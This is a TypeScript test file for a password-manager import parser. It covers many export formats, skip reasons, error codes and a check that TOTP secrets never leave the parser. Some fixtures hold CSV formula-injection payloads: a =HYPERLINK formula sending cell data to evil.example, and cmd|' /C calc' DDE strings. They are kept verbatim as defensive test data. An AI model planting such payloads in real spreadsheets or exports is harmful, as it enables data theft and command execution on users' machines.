import { readFileSync, readdirSync } from 'node:fs';
import { unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import {
  ImportError,
  detectFormat,
  parseExport,
  suggestMapping,
  type ImportFormat,
  type ImportedEntry,
  type ParsedExport,
} from './index';

const EXPORTS = new URL('../../../e2e/fixtures/exports/', import.meta.url);
const BAD = new URL('../../../e2e/fixtures/bad/', import.meta.url);

function bytesOf(folder: URL, name: string): Uint8Array {
  return new Uint8Array(readFileSync(new URL(name, folder)));
}

function parseFixture(name: string): ParsedExport {
  return parseExport(bytesOf(EXPORTS, name), name);
}

function entryTitled(result: ParsedExport, title: string): ImportedEntry {
  const entry = result.entries.find((candidate) => candidate.title === title);
  if (!entry) throw new Error(`no entry titled ${title}`);
  return entry;
}

interface Expectation {
  format: ImportFormat;
  entries: number;
  skipped: [row: number, reason: string][];
}

/** What a careful reader of each sample file counts (see the files themselves). */
const EXPECTED: Record<string, Expectation> = {
  'bitwarden.csv': {
    format: 'bitwarden-csv',
    entries: 40,
    skipped: [
      [41, 'No password'],
      [42, 'Secure note'],
      [43, 'Secure note'],
    ],
  },
  'chrome.csv': { format: 'chrome-csv', entries: 37, skipped: [] },
  'firefox.csv': { format: 'firefox-csv', entries: 35, skipped: [[36, 'Firefox Accounts record']] },
  'keepassxc.csv': {
    format: 'keepassxc-csv',
    entries: 40,
    skipped: [
      [41, 'No password'],
      [42, 'No password'],
      [43, 'recycle bin'],
    ],
  },
  'bitwarden.json': {
    format: 'bitwarden-json',
    entries: 7,
    skipped: [
      [6, 'Secure note'],
      [7, 'Credit card'],
      [8, 'Identity'],
      [9, 'No password (passkey'],
      [11, 'SSH key'],
      [12, 'No password'],
    ],
  },
  '1password8.csv': {
    format: '1password-csv',
    entries: 5,
    skipped: [
      [3, 'Archived'],
      [5, 'No password'],
    ],
  },
  '1password.1pux': {
    format: '1password-1pux',
    entries: 5,
    skipped: [
      [4, 'Secure note'],
      [5, 'Credit card'],
      [6, 'Archived'],
      [8, 'Identity'],
      [10, 'No password'],
    ],
  },
  'lastpass.csv': {
    format: 'lastpass-csv',
    entries: 5,
    skipped: [
      [3, 'Credit card'],
      [4, 'Secure note'],
      [7, 'Folder'],
      [8, 'No password'],
    ],
  },
  'chrome-old.csv': { format: 'chrome-csv', entries: 5, skipped: [] },
  'apple.csv': { format: 'apple-csv', entries: 4, skipped: [[4, 'No password']] },
  'keepass.xml': {
    format: 'keepass-xml',
    entries: 6,
    skipped: [
      [3, 'Older version'],
      [4, 'Older version'],
      [8, 'Older version'],
      [10, 'No password'],
      [11, 'recycle bin'],
      [12, 'Older version'],
      [13, 'recycle bin'],
    ],
  },
  'dashlane.csv': { format: 'dashlane-csv', entries: 4, skipped: [[4, 'No password']] },
  'protonpass.csv': {
    format: 'protonpass-csv',
    entries: 3,
    skipped: [
      [2, 'alias'],
      [3, 'Secure note'],
      [4, 'Credit card'],
      [6, 'No password'],
      [7, 'Identity'],
    ],
  },
  'nordpass.csv': {
    format: 'nordpass-csv',
    entries: 3,
    skipped: [
      [1, 'Folder'],
      [4, 'Secure note'],
      [5, 'Credit card'],
      [6, 'Identity'],
      [8, 'No password'],
    ],
  },
  'utf16.csv': { format: 'chrome-csv', entries: 3, skipped: [] },
  // Older layouts that used to be taken for Chrome or Apple.
  'nordpass-old.csv': {
    format: 'nordpass-csv',
    entries: 3,
    skipped: [
      [1, 'Folder'],
      [2, 'Folder'],
      [5, 'Secure note'],
      [6, 'Credit card'],
      [8, 'No password'],
    ],
  },
  'protonpass-old.csv': {
    format: 'protonpass-csv',
    entries: 2,
    skipped: [
      [1, 'Secure note'],
      [3, 'alias'],
    ],
  },
  'keepassx.csv': { format: 'keepassxc-csv', entries: 2, skipped: [[3, 'No password']] },
  // Managers added in 2025.
  'keeper.csv': {
    format: 'keeper-csv',
    entries: 5,
    skipped: [
      [4, 'Secure note'],
      [5, 'No password'],
      [7, 'No password'],
    ],
  },
  'keeper.json': {
    format: 'keeper-json',
    entries: 5,
    skipped: [
      [4, 'Credit card'],
      [5, 'Secure note'],
      [6, 'SSH key'],
      [7, 'Identity'],
      [8, 'No password'],
    ],
  },
  'roboform.csv': {
    format: 'roboform-csv',
    entries: 4,
    skipped: [
      [5, 'Secure note'],
      [6, 'Bookmark'],
      [7, 'No password'],
    ],
  },
  'enpass.json': {
    format: 'enpass-json',
    entries: 5,
    skipped: [
      [4, 'No password'],
      [5, 'In the trash'],
      [6, 'Archived'],
      [7, 'Secure note'],
      [9, 'Credit card'],
      [10, 'Identity'],
      [11, 'type "travel"'],
    ],
  },
  'enpass.csv': {
    format: 'enpass-csv',
    entries: 3,
    skipped: [
      [3, 'Secure note'],
      [4, 'Credit card'],
      [6, 'No password'],
    ],
  },
  'zoho-vault.csv': { format: 'zoho-vault-csv', entries: 4, skipped: [[4, 'No password']] },
  'passbolt.csv': { format: 'passbolt-csv', entries: 3, skipped: [[3, 'No password']] },
  'sticky.xml': {
    format: 'sticky-xml',
    entries: 4,
    skipped: [
      [4, 'No password'],
      [6, 'Secure note'],
    ],
  },
  'psono.json': {
    format: 'psono-json',
    entries: 3,
    skipped: [
      [2, 'Secure note'],
      [4, 'Environment variables'],
      [6, 'Bookmark'],
      [7, 'One-time-code item'],
      [8, 'No password'],
    ],
  },
  'kaspersky.txt': {
    format: 'kaspersky-txt',
    entries: 4,
    skipped: [
      [3, 'No password'],
      [6, 'Secure note'],
    ],
  },
  'avira.csv': { format: 'avira-csv', entries: 4, skipped: [[4, 'No password']] },
};

describe('sample exports', () => {
  it('has an expectation for every sample file (semicolon.csv needs a mapping)', () => {
    const files = readdirSync(EXPORTS).filter((name) => name !== 'semicolon.csv');
    expect(files.sort()).toEqual(Object.keys(EXPECTED).sort());
  });

  for (const [name, expected] of Object.entries(EXPECTED)) {
    it(`${name}: detects ${expected.format}, ${expected.entries} entries, ${expected.skipped.length} skipped`, () => {
      expect(detectFormat(bytesOf(EXPORTS, name), name).format).toBe(expected.format);
      const result = parseFixture(name);
      expect(result.format).toBe(expected.format);
      expect(result.entries).toHaveLength(expected.entries);
      expect(result.skipped.map((skip) => skip.row)).toEqual(expected.skipped.map(([row]) => row));
      result.skipped.forEach((skip, i) => expect(skip.reason).toContain(expected.skipped[i]?.[1]));
      for (const entry of result.entries) {
        expect(entry.password).not.toBe('');
        expect(entry.urls.every((url) => url !== '' && url === url.trim())).toBe(true);
      }
      // Rows are numbered once each, in file order.
      const rows = [...result.entries.map((e) => e.row), ...result.skipped.map((s) => s.row)];
      expect(rows.sort((a, b) => a - b)).toEqual(rows.map((_, i) => i + 1));
    });
  }
});

describe('field values a reader would expect', () => {
  it('bitwarden.csv: folders, TOTP in both forms, several URLs kept as written, formulas verbatim', () => {
    const result = parseFixture('bitwarden.csv');
    expect(result.columns).toContain('login_totp');
    expect(result.entries[0]).toEqual({
      row: 1,
      title: 'Microsoft account',
      urls: ['https://login.live.com/'],
      username: 'alex.morgan@example.com',
      password: 'Summer2024!',
      hasTotp: true,
      passwordChangedAt: null,
      folder: 'Email',
    });
    expect(entryTitled(result, 'Outlook (work)').hasTotp).toBe(true); // bare base32 seed
    expect(entryTitled(result, 'Facebook').hasTotp).toBe(false);
    expect(entryTitled(result, 'Apple ID').row).toBe(4); // after a multi-line note
    expect(entryTitled(result, 'Home Wi-Fi').urls).toEqual([]);
    expect(entryTitled(result, 'eBay').urls).toEqual(['HTTPS://WWW.EBAY.COM/signin']);
    expect(entryTitled(result, 'Instagram (app)').urls).toEqual(['androidapp://com.instagram.android']);
    const formula = result.entries.find((entry) => entry.title.startsWith('=HYPERLINK'));
    expect(formula?.title).toBe('=HYPERLINK("http://evil.example/x?d="&A1,"Click me")');
    expect(formula?.username).toBe("@SUM(1+9)*cmd|' /C calc'!A0");
    expect(entryTitled(result, 'GitHub').password).toBe('&JDrZZ%N%v6Rf!&u=cF=Rf');
  });

  it('chrome.csv: Android rows keep the android:// address, notes with newlines stay one row', () => {
    const result = parseFixture('chrome.csv');
    expect(result.columns).toEqual(['name', 'url', 'username', 'password', 'note']);
    expect(entryTitled(result, 'com.instagram.android').urls).toEqual([
      'android://Y29tLmluc3RhZ3JhbS5hbmZq9w3Xk2==@com.instagram.android/',
    ]);
    expect(entryTitled(result, 'github.com').row).toBe(21); // records 6, 15, 16 span two lines
    expect(entryTitled(result, 'example-crm.com').username).toBe("@SUM(1+9)*cmd|' /C calc'!A0");
  });

  it('chrome-old.csv: CRLF, no note column, quoted password with comma and quote', () => {
    const result = parseFixture('chrome-old.csv');
    expect(result.columns).toEqual(['name', 'url', 'username', 'password']);
    expect(entryTitled(result, 'www.linkedin.com').password).toBe('Blue,bird"2019');
    expect(result.entries.every((entry) => !entry.password.endsWith('\r'))).toBe(true);
  });

  it('firefox.csv: origins as URLs, no title, password date from timePasswordChanged', () => {
    const result = parseFixture('firefox.csv');
    expect(result.entries[0]).toMatchObject({
      title: '',
      urls: ['https://login.live.com'],
      passwordChangedAt: '2024-06-20T18:02:11.000Z',
    });
    const router = result.entries.find((entry) => entry.urls[0] === 'http://192.168.1.1');
    expect(router?.username).toBe('admin');
  });

  it('keepassxc.csv: Last Modified as the date, folder without the root group', () => {
    const result = parseFixture('keepassxc.csv');
    expect(entryTitled(result, 'Microsoft account')).toMatchObject({
      folder: 'Email',
      hasTotp: true,
      passwordChangedAt: '2024-06-20T18:02:11.000Z',
    });
    expect(entryTitled(result, 'Apple ID').folder).toBe('');
    expect(entryTitled(result, 'Home Wi-Fi').username).toBe('');
  });

  it('bitwarden.json: accounts with dates, the passwordRevisionDate and its revisionDate fallback', () => {
    const result = parseFixture('bitwarden.json');
    expect(result.columns).toEqual([]);
    expect(entryTitled(result, 'LinkedIn')).toMatchObject({
      row: 1,
      urls: ['https://www.linkedin.com/login'],
      passwordChangedAt: '2019-04-01T10:05:00.000Z',
      folder: 'Social',
    });
    expect(entryTitled(result, 'Dropbox').passwordChangedAt).toBe('2019-04-01T10:09:00.000Z');
    expect(entryTitled(result, 'Adobe').urls).toEqual([
      'https://account.adobe.com/',
      'https://auth.services.adobe.com/signin',
    ]);
    expect(entryTitled(result, 'Myspace').urls).toEqual(['http://www.myspace.com/signin']);
    expect(entryTitled(result, 'GitHub')).toMatchObject({ hasTotp: true, folder: 'Dev' });
    expect(entryTitled(result, 'Amazon').hasTotp).toBe(true);
    expect(entryTitled(result, 'FitTrack (app)').username).toBe('');
  });

  it('1password8.csv: OTPAuth, a Password item without website', () => {
    const result = parseFixture('1password8.csv');
    expect(entryTitled(result, 'GitHub').hasTotp).toBe(true);
    expect(entryTitled(result, 'Home Wi-Fi')).toMatchObject({ row: 4, urls: [], username: '' });
  });

  it('1password.1pux: vault as folder, updatedAt in seconds, TOTP field, linked-account user name', () => {
    const result = parseFixture('1password.1pux');
    expect(entryTitled(result, 'LinkedIn')).toMatchObject({
      folder: 'Personal',
      passwordChangedAt: '2019-04-01T10:05:00.000Z',
      hasTotp: false,
    });
    expect(entryTitled(result, 'GitHub').hasTotp).toBe(true);
    expect(entryTitled(result, 'Router admin')).toMatchObject({
      row: 3,
      password: 'admin-Lantern-42',
      urls: [],
    });
    expect(entryTitled(result, 'Azure portal')).toMatchObject({
      row: 7,
      folder: 'Work',
      hasTotp: true,
      urls: ['https://portal.azure.com/', 'https://login.microsoftonline.com/'],
    });
    expect(entryTitled(result, 'Fastmail').username).toBe('alex.morgan@example.org');
  });

  it('lastpass.csv: bare http:// means no URL, backslash groups become paths, totp seed', () => {
    const result = parseFixture('lastpass.csv');
    expect(entryTitled(result, 'Windows PC (local)').urls).toEqual([]);
    expect(entryTitled(result, 'Example Bank UK').folder).toBe('Finance/Banks');
    expect(entryTitled(result, 'GitHub').hasTotp).toBe(true);
    expect(entryTitled(result, 'Myspace').urls).toEqual(['http://www.myspace.com/signin']);
  });

  it('apple.csv: OTPAuth URIs', () => {
    const result = parseFixture('apple.csv');
    expect(result.entries.filter((entry) => entry.hasTotp).map((entry) => entry.row)).toEqual([1, 5]);
    expect(entryTitled(result, 'github.com (octo-morgan)').username).toBe('octo-morgan');
  });

  it('keepass.xml: groups as folders, entities decoded, otp fields in three spellings, extra URLs', () => {
    const result = parseFixture('keepass.xml');
    expect(entryTitled(result, 'Router admin')).toMatchObject({ row: 1, folder: '' });
    expect(entryTitled(result, 'Microsoft account')).toMatchObject({
      row: 2,
      folder: 'Email',
      password: 'Summer2024!',
      hasTotp: true,
      passwordChangedAt: '2024-06-20T18:02:11.000Z',
    });
    expect(entryTitled(result, 'LinkedIn')).toMatchObject({
      password: 'Blue<bird>&2019',
      urls: ['https://www.linkedin.com/login', 'androidapp://com.linkedin.android'],
      hasTotp: false,
    });
    expect(entryTitled(result, 'Facebook').hasTotp).toBe(true); // TimeOtp-Secret-Base32
    expect(entryTitled(result, 'Myspace')).toMatchObject({ hasTotp: true, folder: 'Social/Old' }); // TOTP Seed
    const passwords = result.entries.map((entry) => entry.password);
    expect(passwords).not.toContain('Spring2019!'); // a history version
    expect(passwords).not.toContain('hotmail99'); // in the recycle bin
  });

  it('dashlane.csv: bare domains kept as written, username2 as fallback, otpUrl', () => {
    const result = parseFixture('dashlane.csv');
    expect(entryTitled(result, 'LinkedIn')).toMatchObject({ urls: ['linkedin.com'], folder: 'Social' });
    expect(entryTitled(result, 'GitHub')).toMatchObject({ username: 'octo-morgan', hasTotp: true });
    expect(entryTitled(result, 'Dropbox').username).toBe('alex.morgan@example.com');
  });

  it('protonpass.csv: ", "-joined URLs merged with autofillUrls, modifyTime in seconds, vault', () => {
    const result = parseFixture('protonpass.csv');
    expect(entryTitled(result, 'GitHub')).toMatchObject({
      urls: [
        'https://github.com/login',
        'https://gist.github.com/',
        'https://github.example-enterprise.com/',
      ],
      username: 'octo-morgan',
      hasTotp: true,
      passwordChangedAt: '2024-03-15T15:30:00.000Z',
      folder: 'Personal',
    });
    // No username: the e-mail column stands in.
    expect(entryTitled(result, 'LinkedIn').username).toBe('alex.morgan@example.com');
    expect(entryTitled(result, 'Home router').urls).toEqual([]);
  });

  it('nordpass.csv: additional_urls merged, folder column', () => {
    const result = parseFixture('nordpass.csv');
    expect(entryTitled(result, 'Azure portal')).toMatchObject({
      urls: [
        'https://portal.azure.com/',
        'https://login.microsoftonline.com/',
        'https://aka.example.org/azure',
      ],
      folder: 'Work',
    });
    expect(result.columns).toHaveLength(24);
  });

  it('utf16.csv: UTF-16LE with BOM decodes non-ASCII text', () => {
    const result = parseFixture('utf16.csv');
    expect(result.columns[0]).toBe('name');
    expect(entryTitled(result, 'tokyo-gas.co.jp').password).toBe('Qa7?Tap#!GPmTz_4');
    expect(entryTitled(result, 'example.de').urls).toEqual(['https://www.cafe-muenster.example.de/login']);
  });

  it('semicolon.csv: unknown columns, a suggested mapping, then a generic import', () => {
    const bytes = bytesOf(EXPORTS, 'semicolon.csv');
    const detected = detectFormat(bytes, 'semicolon.csv');
    expect(detected).toEqual({
      format: null,
      columns: ['Service', 'Website', 'Login', 'Password', 'OTP', 'Comment'],
    });
    expect(() => parseExport(bytes, 'semicolon.csv')).toThrow(ImportError);
    const mapping = suggestMapping(detected.columns);
    expect(mapping).toEqual({
      title: 'Service',
      url: 'Website',
      username: 'Login',
      password: 'Password',
      totp: 'OTP',
    });
    const result = parseExport(bytes, 'semicolon.csv', {
      mapping: { ...mapping, url: 'Website', password: 'Password' },
    });
    expect(result.format).toBe('generic-csv');
    expect(result.entries.map((entry) => entry.title)).toEqual(['Stadtwerke Münster', 'Bank', 'Intranet']);
    expect(result.entries[0]?.password).toBe('Sommer,2024!');
    expect(result.entries[1]).toMatchObject({ password: 'iSrF;XEYuo"Dy8', hasTotp: true });
    expect(result.entries[2]).toMatchObject({ urls: [], hasTotp: false });
    expect(result.skipped).toEqual([{ row: 4, reason: 'No password' }]);
  });
});

/** What a person checks in a preview: title, user name, addresses, two-step, folder. */
function rowsOf(result: ParsedExport): [string, string, string[], boolean, string][] {
  return result.entries.map((entry) => [
    entry.title,
    entry.username,
    entry.urls,
    entry.hasTotp,
    entry.folder,
  ]);
}

describe('field values of the newer formats', () => {
  it('keeper.csv: no header, folders split at backslashes, TFC:Keeper as TOTP, quotes and line breaks', () => {
    const result = parseFixture('keeper.csv');
    expect(result.columns).toEqual([]);
    expect(rowsOf(result)).toEqual([
      ['Microsoft account', 'alex.morgan@example.com', ['https://login.live.com/'], false, 'Email'],
      ['LinkedIn', 'alex.morgan@example.com', ['https://www.linkedin.com/login'], true, 'Social'],
      ['Azure portal', 'a.morgan@example.org', ['https://portal.azure.com/'], false, 'Work/Clients'],
      ['Home router', 'admin', ['http://192.168.1.1'], false, ''],
      ['Formula test', "=cmd|' /C calc'!A0", ['https://www.example.com/'], false, ''],
    ]);
    expect(entryTitled(result, 'Formula test').password).toBe('p@ss, with "quotes"');
  });

  it('keeper.json: logins on any record type with a password, $oneTimeCode and TFC:Keeper, $url fields, shared folders', () => {
    const result = parseFixture('keeper.json');
    expect(rowsOf(result)).toEqual([
      [
        'GitHub',
        'octo-morgan',
        ['https://github.com/login', 'https://gist.github.com/'],
        true,
        'Dev/Code hosting',
      ],
      ['Netflix', 'Alex.Morgan@Example.com', ['https://www.netflix.com/login'], true, 'Family/Streaming/TV'],
      ['Web server', 'deploy', [], false, 'Work'],
      ['Customer database', 'db_admin', [], false, 'Work'],
      ['Library card', '2003498812', ['https://library.example.gov/login'], false, ''],
    ]);
    // last_modified comes in seconds (web vault) or milliseconds (some exports).
    expect(entryTitled(result, 'GitHub').passwordChangedAt).toBe('2024-03-15T15:30:00.000Z');
    expect(entryTitled(result, 'Customer database').passwordChangedAt).toBe('2024-06-20T18:02:11.000Z');
    expect(result.entries.map((entry) => entry.password)).not.toContain('passphrase-for-the-key');
  });

  it("roboform.csv: MatchUrl, spilled RfFieldsV2 cells with TOTP KEY$, RoboForm's quote guard removed", () => {
    const result = parseFixture('roboform.csv');
    expect(rowsOf(result)).toEqual([
      ['GitHub', 'octo-morgan', ['https://github.com/login'], true, 'Dev'],
      ['LinkedIn', 'alex.morgan@example.com', ['https://www.linkedin.com/login'], false, 'Social'],
      [
        'Example Bank',
        '40123456',
        ['https://online.example-bank.co.uk:8443/ib/login'],
        false,
        'Finance/Banks',
      ],
      ['Twitter', '@alexmorgan', ['https://twitter.com/login'], false, 'Social'],
    ]);
    expect(entryTitled(result, 'Example Bank').password).toBe('@Start-2024');
    expect(entryTitled(result, 'Twitter').password).toBe("'quoted-start");
    expect(result.notices).toEqual([
      '2 rows had fewer fields than the header; the missing fields were read as empty.',
    ]);
  });

  it('enpass.json: fields by type, nested folders, Android apps, a card carrying a login, the live password only', () => {
    const result = parseFixture('enpass.json');
    expect(rowsOf(result)).toEqual([
      [
        'LinkedIn',
        'alex.morgan@example.com',
        ['https://www.linkedin.com/login', 'androidapp://com.linkedin.android'],
        false,
        'Social',
      ],
      [
        'Azure portal',
        'a.morgan',
        ['https://portal.azure.com/', 'https://login.microsoftonline.com/'],
        true,
        'Work/Cloud',
      ],
      ['Home router', 'admin', [], false, ''],
      ['Amex', 'Alex_EX', ['http://global.americanexpress.example.com/'], false, ''],
      ['Web server', 'deploy', [], false, 'Work'],
    ]);
    expect(entryTitled(result, 'Azure portal').password).toBe('8Fe=sXTK5EW%vsW=hV&A'); // not the deleted one
    // The password field's own change date.
    expect(entryTitled(result, 'LinkedIn').passwordChangedAt).toBe('2019-04-01T10:05:00.000Z');
  });

  it('enpass.csv: the pseudo-header skipped, label/value pairs, a trailing note', () => {
    const result = parseFixture('enpass.csv');
    expect(result.columns).toEqual([]);
    expect(rowsOf(result)).toEqual([
      ['LinkedIn', 'alex.morgan@example.com', ['https://www.linkedin.com/login'], false, ''],
      ['GitHub', 'octo-morgan', ['https://github.com/login'], true, ''],
      ['Home router', '', ['http://192.168.1.1'], false, ''],
    ]);
  });

  it('zoho-vault.csv: BOM, user name and password inside SecretData, multi-line folder, short TOTP', () => {
    const result = parseFixture('zoho-vault.csv');
    expect(result.columns[0]).toBe('Password Name');
    expect(rowsOf(result)).toEqual([
      ['GitHub', 'octo-morgan', ['https://github.com/login'], true, 'Dev'],
      [
        'Example Bank',
        '40123456',
        ['https://online.example-bank.co.uk:8443/ib/login'],
        false,
        'Finance/Banks',
      ],
      ['Web server', 'deploy', [], false, 'Work'],
      ['Wiki', 'alex.morgan@example.org', ['https://wiki.example.org/'], true, ''],
    ]);
    expect(entryTitled(result, 'Example Bank').password).toBe('pass:with:colons');
  });

  it('passbolt.csv: told from KeePassXC by its column order, Group as folder, TOTP', () => {
    const result = parseFixture('passbolt.csv');
    expect(rowsOf(result)).toEqual([
      ['Azure portal', 'a.morgan@example.org', ['https://portal.azure.com/'], true, 'Work/Cloud'],
      ['Web server', 'deploy', ['ssh://web01.example.org'], false, 'Work'],
      ['Wiki', 'alex.morgan@example.org', ['https://wiki.example.org/'], true, ''],
    ]);
  });

  it('sticky.xml: one entry per Login, title and address from the Account linking it, group tree, entities', () => {
    const result = parseFixture('sticky.xml');
    expect(rowsOf(result)).toEqual([
      ['LinkedIn', 'alex.morgan@example.com', ['https://www.linkedin.com/login'], false, 'Social'],
      ['GitHub', 'octo-morgan', ['https://github.com/login'], false, 'Dev'],
      ['GitHub', 'alex.work@example.org', ['https://github.com/login'], false, 'Dev'],
      ['Web server', 'deploy', [], false, 'Work/Servers'],
    ]);
    expect(result.entries[1]?.password).toBe('&JDrZZ%N%v6Rf!&u=cF=Rf');
    expect(result.entries[2]?.password).toBe('<Work> "2023"');
    expect(result.entries.map((entry) => entry.passwordChangedAt)).toEqual([
      '2019-04-01T10:05:00.000Z',
      '2024-03-15T15:30:00.000Z',
      null,
      '2023-11-14T22:13:20.000Z',
    ]);
  });

  it('psono.json: folders depth-first in file order, bare-host addresses kept as written', () => {
    const result = parseFixture('psono.json');
    expect(rowsOf(result)).toEqual([
      ['Azure portal', 'a.morgan@example.org', ['portal.azure.com'], false, 'Work'],
      ['Web server', 'deploy', [], false, 'Work/Servers'],
      ['LinkedIn', 'alex.morgan@example.com', ['https://www.linkedin.com/login'], false, ''],
    ]);
    expect(entryTitled(result, 'Azure portal').passwordChangedAt).toBe('2023-11-14T22:13:20.000Z');
  });

  it('kaspersky.txt: sections, colons in passwords, a Comment that runs over a "Password:" line', () => {
    const result = parseFixture('kaspersky.txt');
    expect(rowsOf(result)).toEqual([
      ['LinkedIn: Personal', 'alex.morgan@example.com', ['https://www.linkedin.com/login'], false, ''],
      ['Example Bank', '40123456', ['online.example-bank.co.uk:8443/ib/login'], false, ''],
      ['Windows PC: Local account', 'alex', [], false, ''],
      ['Home router', 'admin', [], false, ''],
    ]);
    expect(entryTitled(result, 'Example Bank').password).toBe('pass: with a colon');
    // The note's "Login:" and "Password:" lines belong to its Text, so it stays a note.
    expect(result.entries.map((entry) => entry.password)).not.toContain('MorganGuest');
  });

  it('avira.csv: secondary_username when username is empty', () => {
    const result = parseFixture('avira.csv');
    expect(rowsOf(result)).toEqual([
      ['LinkedIn', 'alex.morgan@example.com', ['https://www.linkedin.com/login'], false, ''],
      ['Example Shop', 'alex.morgan@example.com', ['https://shop.example.com/account'], false, ''],
      ['Forum', 'alexm', ['forum.example.net'], false, ''],
      ['', 'alex.morgan@example.org', ['https://www.example.org/login'], false, ''],
    ]);
  });

  it('nordpass-old.csv, protonpass-old.csv, keepassx.csv: older layouts keep their TOTP and addresses', () => {
    expect(rowsOf(parseFixture('nordpass-old.csv'))).toEqual([
      ['LinkedIn', 'alex.morgan@example.com', ['https://www.linkedin.com/login'], false, 'Social'],
      ['Azure portal', 'a.morgan@example.org', ['https://portal.azure.com/'], false, 'Work'],
      ['Windows PC', 'alex', [], false, 'Work'],
    ]);
    expect(rowsOf(parseFixture('protonpass-old.csv'))).toEqual([
      // A 6-character secret in the TOTP column still means two-step is on.
      [
        'GitHub',
        'alex.morgan@example.com',
        ['https://github.com/login', 'https://gist.github.com/'],
        true,
        '',
      ],
      ['LinkedIn', 'alex.morgan@example.com', ['https://www.linkedin.com/login'], false, ''],
    ]);
    expect(rowsOf(parseFixture('keepassx.csv'))).toEqual([
      ['GitHub', 'octo-morgan', ['https://github.com/login'], true, ''],
      ['LinkedIn', 'alex.morgan@example.com', ['https://www.linkedin.com/login'], false, ''],
    ]);
  });
});

describe('bad inputs', () => {
  const cases: Record<string, ImportError['code'] | 'ok'> = {
    'binary-renamed.csv': 'binary',
    'bitwarden-encrypted.json': 'encrypted',
    'bitwarden-password-protected.json': 'encrypted',
    // Not bad at all: a BOM and CRLF line ends must simply work.
    'bom-crlf-chrome.csv': 'ok',
    'empty.csv': 'empty',
    'header-only.csv': 'header_only',
    'random-columns.csv': 'unknown_columns',
    'truncated-unterminated-quote.csv': 'malformed',
    // JSON with folders and items that no export has: refused, never an empty Bitwarden import.
    'unknown-items.json': 'unsupported',
    // Only notes, a card and a passkey-only login: nothing to import is an error, not a success.
    'notes-only.json': 'no_logins',
    'entities.xml': 'unsupported',
    'deep-nesting.xml': 'too_large',
  };

  it('has an expectation for every file in e2e/fixtures/bad', () => {
    expect(readdirSync(BAD).sort()).toEqual(Object.keys(cases).sort());
  });

  for (const [name, code] of Object.entries(cases)) {
    if (code === 'ok') continue;
    it(`${name}: ImportError ${code}, naming the file`, () => {
      const error = catchImportError(() => parseExport(bytesOf(BAD, name), name));
      expect(error.code).toBe(code);
      expect(error.message).toContain(name);
      expect(error.name).toBe('ImportError');
    });
  }

  it('bom-crlf-chrome.csv reads as Chrome: BOM stripped from the first column name, no \\r left', () => {
    const result = parseExport(bytesOf(BAD, 'bom-crlf-chrome.csv'), 'bom-crlf-chrome.csv');
    expect(result.format).toBe('chrome-csv');
    expect(result.columns).toEqual(['name', 'url', 'username', 'password', 'note']);
    expect(result.entries).toHaveLength(5);
    expect(result.skipped).toEqual([]);
    expect(result.entries[1]?.password).toBe('q7R!vT2#pLm9$wXz');
    expect(result.entries[3]?.title).toBe('münchen-ticket.example');
    expect(result.entries[4]).toMatchObject({ row: 5, password: 'password' });
  });

  it('truncated-unterminated-quote.csv: the message names the row and line where the quote opened', () => {
    const error = catchImportError(() =>
      parseExport(bytesOf(BAD, 'truncated-unterminated-quote.csv'), 'truncated-unterminated-quote.csv'),
    );
    expect(error.message).toContain('row 3 (line 4)');
    expect(error.details.row).toBe(3);
  });

  it('random-columns.csv: the message and details list the columns seen', () => {
    const error = catchImportError(() =>
      parseExport(bytesOf(BAD, 'random-columns.csv'), 'random-columns.csv'),
    );
    expect(error.details.columns).toEqual([
      'id',
      'site_label',
      'login_hint',
      'secret_value',
      'last_rotated',
      'owner_team',
    ]);
    expect(error.message).toContain('"site_label"');
    expect(detectFormat(bytesOf(BAD, 'random-columns.csv'), 'random-columns.csv').format).toBeNull();
  });

  it('detectFormat refuses the same unreadable files', () => {
    for (const name of ['binary-renamed.csv', 'bitwarden-encrypted.json', 'empty.csv']) {
      expect(() => detectFormat(bytesOf(BAD, name), name)).toThrow(ImportError);
    }
    expect(detectFormat(bytesOf(BAD, 'header-only.csv'), 'header-only.csv').format).toBe('bitwarden-csv');
  });
});

describe('no TOTP secret ever leaves the parser', () => {
  /** Base32 secrets in a file: `secret=` parameters and bare seeds of 16+ base32 characters. */
  function secretsIn(text: string): string[] {
    const found = new Set<string>();
    for (const match of text.matchAll(/secret=([A-Z2-7]{16,})/gi)) found.add(match[1] ?? '');
    for (const match of text.matchAll(/(?<![A-Za-z0-9])([A-Z2-7]{16,})(?![A-Za-z0-9])/g))
      found.add(match[1] ?? '');
    found.delete('');
    return [...found];
  }

  function textOf(name: string): string {
    const bytes = bytesOf(EXPORTS, name);
    if (name.endsWith('.1pux')) return new TextDecoder().decode(unzipSync(bytes)['export.data']);
    if (bytes[0] === 0xff && bytes[1] === 0xfe) return new TextDecoder('utf-16le').decode(bytes);
    return new TextDecoder().decode(bytes);
  }

  const withTotp = [
    'bitwarden.csv',
    'keepassxc.csv',
    'bitwarden.json',
    '1password8.csv',
    '1password.1pux',
    'lastpass.csv',
    'apple.csv',
    'keepass.xml',
    'dashlane.csv',
    'protonpass.csv',
    'semicolon.csv',
    'keeper.csv',
    'keeper.json',
    'roboform.csv',
    'enpass.json',
    'enpass.csv',
    'zoho-vault.csv',
    'passbolt.csv',
    'psono.json',
    'keepassx.csv',
  ];

  for (const name of readdirSync(EXPORTS)) {
    it(`${name}: the result holds no secret from the file`, () => {
      const secrets = secretsIn(textOf(name));
      if (withTotp.includes(name)) expect(secrets.length).toBeGreaterThan(0);
      const result =
        name === 'semicolon.csv'
          ? parseExport(bytesOf(EXPORTS, name), name, {
              mapping: { title: 'Service', url: 'Website', password: 'Password', totp: 'OTP' },
            })
          : parseFixture(name);
      const serialized = JSON.stringify(result);
      expect(serialized).not.toMatch(/otpauth:/i);
      for (const secret of secrets) expect(serialized).not.toContain(secret);
    });
  }
});

function catchImportError(run: () => unknown): ImportError {
  try {
    run();
  } catch (error) {
    if (error instanceof ImportError) return error;
    throw error;
  }
  throw new Error('expected an ImportError');
}
